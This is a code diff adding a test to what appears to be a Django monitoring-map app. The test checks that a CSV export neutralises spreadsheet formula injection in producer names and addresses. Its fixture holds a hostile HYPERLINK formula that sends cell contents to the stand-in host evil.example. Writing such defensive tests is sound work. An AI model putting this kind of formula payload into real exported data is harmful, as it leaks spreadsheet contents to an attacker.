@@ -192,3 +192,11 @@ def test_the_card_shows_certificates_stamps_and_open_reports(client, inspector, 
     assert len(card["open_reports"]) == 1
     fragment = client.get(f"/giam-sat/ban-do/co-so/{producer.pk}/").content.decode()
     assert producer.name in fragment and 'data-card-figure="activated">3<' in fragment
+
+
+def test_the_csv_export_does_not_let_a_producer_name_run_as_a_formula(client, inspector, places):
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
+    f.make_producer(hostile, commune=places["viet_quang_old"], lat=22.41, lng=104.82, address="@SUM(1+1)")
+    client.force_login(inspector)
+    rows = list(csv.DictReader(io.StringIO(client.get("/giam-sat/ban-do/xuat.csv").content.decode("utf-8-sig"))))
+    assert [(row["name"], row["address"]) for row in rows] == [("'" + hostile, "'@SUM(1+1)")]
